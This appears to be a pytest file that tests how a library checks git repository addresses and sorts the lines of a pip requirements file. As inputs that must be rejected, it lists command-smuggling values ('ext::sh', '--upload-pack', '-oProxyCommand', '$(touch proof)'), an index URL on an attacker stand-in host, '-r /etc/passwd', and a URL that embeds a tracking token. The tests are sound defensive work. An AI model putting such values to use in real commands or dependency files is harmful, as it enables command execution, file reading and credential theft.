"""What a server says of a run is looked at before anything is done with it."""

import pytest

from trialog.errors import InvalidParameter
from trialog.sdk.recipe import Requirements, checked_address, read_requirements


@pytest.mark.parametrize(
    "text",
    [
        "https://example.com/team/model.git",
        "https://example.com:8443/team/model",
        "ssh://git@example.com:2222/team/model.git",
        "git@example.com:team/model.git",
        "example.com:team/model.git",
        "https://[2001:db8::1]/model.git",
    ],
)
def test_addresses_of_other_machines(text: str) -> None:
    assert (checked_address(text).text, checked_address(text).is_local) == (text, False)


@pytest.mark.parametrize("text", ["file:///srv/git/model.git", "/srv/git/model.git", "C:\\git\\model", "C:/git/model"])
def test_addresses_of_this_machine(text: str) -> None:
    assert (checked_address(text).text, checked_address(text).is_local) == (text, True)


@pytest.mark.parametrize(
    "text",
    [
        "",
        "ext::sh -c 'touch proof'",
        "ext::sh",
        "fd::17/a",
        "http://example.com/model.git",
        "git://example.com/model.git",
        "ftp://example.com/model.git",
        "HTTPS+ext://example.com/a",
        "--upload-pack=touch proof",
        "-oProxyCommand=touch:a",
        "ssh://-oProxyCommand=touch/a",
        "ssh://git@-oProxyCommand=touch/a",
        "git@-oProxyCommand=touch:a",
        "git@example.com:-a",
        "https://-x/a",
        "https:///a",
        "https://example.com/a b",
        "https://example.com/a\nb",
        "file://other/share",
        "file:////other/share",
        "file:///\\\\other\\share",
        "//other/share",
        "/\\other\\share",
        "C:\\\\other",
        "../model",
        "model",
        "transport::https://example.com/a",
    ],
)
def test_addresses_that_nothing_is_fetched_from(text: str) -> None:
    with pytest.raises(InvalidParameter, match="from which nothing is fetched"):
        checked_address(text)


def test_a_list_of_packages_is_read_and_what_else_it_says_is_told_apart() -> None:
    content = b"""# Packages of Python 3.11.2
a==1.0+cu121
b-c==2!1.0rc1
d @ git+https://example.com/d.git@abc
e @ https://example.com/e.whl
-e .
-e ./lib/part
# f==1 was installed from a folder of that machine

--index-url https://evil.example.com
-r /etc/passwd
-e git+https://evil.example.com/x
-e ./../up
-e /etc
g @ file:///etc
g @ git+ext::sh
g>=1
h==1 --global-option=x
-e ./a b
i==$(touch proof)
j @ https://-oProxyCommand=x/y
j @ git+ssh://a@-oProxyCommand=x/y
j @ https://a[b/y
k @ https://example.com/${MLFLOW_TRACKING_TOKEN}.whl
k @ https://example.com/k.whl\\
"""
    assert read_requirements(content) == Requirements(
        versions={"a": "1.0+cu121", "b-c": "2!1.0rc1"},
        direct=("d @ git+https://example.com/d.git@abc", "e @ https://example.com/e.whl"),
        editable=(".", "./lib/part"),
        unknown=(
            "f==1 was installed from a folder of that machine",
            "--index-url https://evil.example.com",
            "-r /etc/passwd",
            "-e git+https://evil.example.com/x",
            "-e ./../up",
            "-e /etc",
            "g @ file:///etc",
            "g @ git+ext::sh",
            "g>=1",
            "h==1 --global-option=x",
            "-e ./a b",
            "i==$(touch proof)",
            "j @ https://-oProxyCommand=x/y",
            "j @ git+ssh://a@-oProxyCommand=x/y",
            "j @ https://a[b/y",
            "k @ https://example.com/${MLFLOW_TRACKING_TOKEN}.whl",
            "k @ https://example.com/k.whl\\",
        ),
    )
